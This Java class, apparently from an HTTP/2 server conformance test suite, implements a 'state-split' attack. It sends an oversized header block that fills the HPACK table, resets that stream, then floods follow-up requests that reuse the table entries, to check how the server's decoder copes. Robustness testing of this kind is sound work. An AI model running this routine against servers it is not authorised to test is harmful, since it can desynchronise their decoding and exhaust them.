package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.BlockWriter;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.Messages;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;

/**
 * A request that is refused for its size but has filled the table, then requests that use these
 * table entries: a decoder that stopped reading the first one misreads the others.
 */
final class StateSplit implements Attack {
  private static final int TOO_LONG = 9_000;
  private static final int MAX_OPEN = 100;
  private static final int ANSWER_BYTES =
      16; // what a response takes of the window, and a little more

  @Override
  public AttackDescription description() {
    return new AttackDescription(
            "state-split",
            "RFC 7541 §2.2, RFC 9113 §4.3",
            Fate.BOUNDED,
            "reads a refused block to its end, or ends the connection")
        .published("2023-32731 2024-7246");
  }

  /** Correct calls that the server must work for. */
  @Override
  public long bytesPerSecond() {
    return BYTES_PER_SECOND / 4;
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    Requests requests = Requests.to(Requests.UNARY);
    BlockWriter tooLong = new BlockWriter().unstored("x-long", "x".repeat(TOO_LONG));
    int id = 1;
    connection.send(Frames.headers(id, Frames.END_HEADERS, requests.nextWith(tooLong)));
    connection.send(Frames.rstStream(id));
    while (front.goesOn(connection)) {
      id += 2;
      connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
      connection.send(Frames.data(id, Frames.END_STREAM, Messages.empty()));
      connection.send(Frames.windowUpdate(0, ANSWER_BYTES));
      while (front.goesOn(connection) && id / 2 - connection.endedStreams() > MAX_OPEN) {
        connection.flush();
        front.pauseMillis(1);
      }
    }
  }
}
